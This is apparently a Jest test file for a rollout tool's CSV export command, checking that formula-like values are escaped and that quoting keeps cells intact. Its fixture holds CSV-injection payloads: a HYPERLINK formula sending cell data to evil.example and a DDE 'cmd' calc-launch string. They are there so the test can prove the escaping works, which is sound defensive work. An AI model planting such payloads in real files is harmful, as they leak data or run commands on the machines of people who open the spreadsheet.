/**
 * Landscape text in the wave's CSV (commands/export.ts; the bot uploads the same file into the wave's thread): a
 * value KEB answers that a spreadsheet would read as a formula (= + - @, a tab) is neutralised with a leading ',
 * and quoting keeps commas, quotes and line breaks inside their cell.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { dispatch } from '../../../commands/index.js';
import type { CommandContext } from '../../../commands/types.js';
import { csvCell } from '../../../commands/export.js';
import { Services } from '../../../src/app/services.js';
import type { WaveStatus } from '../../../src/rollout/wave-status.js';
import { runtimeOf, startTestSim, writeSimConfig, type TestSim } from '../../helpers/sim.js';

/** Splits CSV text (RFC 4180 quoting) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      rows[rows.length - 1].push(cell);
      cell = '';
      if (c === '\n') rows.push([]);
    } else cell += c;
  }
  rows[rows.length - 1].push(cell);
  return rows;
}

describe('commands/export.ts — CSV cells from the landscape', () => {
  let sim: TestSim;
  let ctx: CommandContext;
  beforeAll(async () => {
    sim = await startTestSim({ profile: 'scenarios', timeScale: 0.01 });
    ctx = { user: 'sre-1', via: 'shell', interactive: false, services: await Services.create({ configFile: writeSimConfig(sim, 'export-hostile') }) };
  });
  afterAll(async () => {
    await ctx?.services.close();
    await sim?.close();
  });

  it('formula-looking KEB values reach the CSV neutralised, every cell intact', async () => {
    const rt = runtimeOf(sim.out, 'dev', 'fresh');
    const hostile = { globalAccountId: '=HYPERLINK("http://evil.example/?leak="&A1,"open")', subaccountId: '@SUM(1+1)*cmd|\' /C calc\'!A0' };
    Object.assign(sim.sim.runtimesById.get(rt.runtimeId)!, hostile);
    const ran = await dispatch(ctx, 'run', ['dev', `runtime-id=${rt.runtimeId}`, '--yes']);
    const waveId = (ran.json as WaveStatus).waveId;
    const csv = await dispatch(ctx, 'export', [waveId, '--format', 'csv']);
    expect(csv.exitCode).toBe(0);
    const [header, ...rows] = parseCsv(csv.text);
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
    expect(row).toMatchObject({ runtimeId: rt.runtimeId, outcome: 'migrated', globalAccountId: `'${hostile.globalAccountId}`, subaccountId: `'${hostile.subaccountId}` });
    // No cell a spreadsheet would evaluate.
    expect(rows[0].filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // --out writes the same file (the shell's; Slack refuses --out).
    const dir = mkdtempSync(path.join(os.tmpdir(), 'export-out-'));
    try {
      for (const format of ['csv', 'json']) {
        const file = path.join(dir, `wave.${format}`);
        const wrote = await dispatch(ctx, 'export', [waveId, '--format', format, '--out', file]);
        expect(wrote.text).toBe(`wrote the results of ${waveId} to ${file} (${format}, 1 runtime)`);
        expect(readFileSync(file, 'utf8')).toBe(`${(await dispatch(ctx, 'export', [waveId, '--format', format])).text}\n`);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-cmd', "'-cmd"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['-12.5', '-12.5'],
    ['plain', 'plain'],
  ])('csvCell(%j) is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('numbers and empty values stay as they are', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });
});
